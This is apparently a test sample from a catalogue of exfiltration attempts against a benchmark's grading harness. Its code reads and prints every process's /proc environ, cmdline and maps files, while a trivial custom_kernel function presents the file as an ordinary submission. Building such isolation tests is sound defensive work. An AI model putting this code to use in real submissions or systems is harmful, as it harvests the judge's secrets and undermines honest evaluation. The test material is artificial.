# ruff: noqa
# mypy: ignore-errors
# group: exfiltration
# catalogue: X1
# tries: read the judge's environment, memory map and command line
# verdict: passed
# never: NOBODY-MAY-SEE-THIS report.json manifest.json
# never at 1: NOBODY-MAY-SEE-THIS
import glob

for _path in glob.glob("/proc/[0-9]*/environ") + glob.glob("/proc/[0-9]*/cmdline") + glob.glob("/proc/[0-9]*/maps"):
    try:
        print(_path, open(_path, "rb").read())
    except OSError as error:
        print(_path, error)


def custom_kernel(data):
    return sorted(data)
